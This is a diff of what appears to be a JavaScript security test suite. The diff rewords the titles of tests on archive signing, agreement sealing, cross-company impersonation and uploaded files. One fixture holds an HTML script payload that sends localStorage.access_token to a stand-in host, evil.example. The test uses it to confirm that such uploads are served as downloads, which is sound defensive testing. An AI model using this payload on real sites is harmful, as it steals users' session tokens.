@@ -89,7 +89,7 @@ it('a stranger who signs their own archive, or borrows the id of a trusted key, 
   }
 })
 
-it('a page that calls itself a picture is a download, so that no script of it runs beside a session', async () => {
+it('a page disguised as a picture is a download, so that no script of it runs in a session', async () => {
   const { test, call } = await here()
   const page = Buffer.from('<script>fetch("//evil.example/" + localStorage.access_token)</script>')
   const [file] = rowsOf(contents, 'files')
@@ -114,7 +114,7 @@ it('a page that calls itself a picture is a download, so that no script of it ru
   expect(kept).toEqual([{ media_type: 'application/octet-stream' }])
 })
 
-it('an agreement that nobody signed here is not sealed here', async () => {
+it('an agreement that was not signed here is not sealed here', async () => {
   const { test, call } = await here()
   const files = withRows('agreement_transactions', () => ({
     status: 'sent',
@@ -187,7 +187,7 @@ it('a mail that came with an archive is not sent', async () => {
   })
 })
 
-it('a member who has the id of somebody of another company here takes neither their place nor their session', async () => {
+it('a member with the id of another company’s member takes neither their place nor their session', async () => {
   const { test, call } = await here()
   const { user, call: theirs } = await test.signIn(emailOf('Owner', 2))
   const me = rowsOf(contents, 'users').find(({ email }) => email === emailOf('Owner', 3))
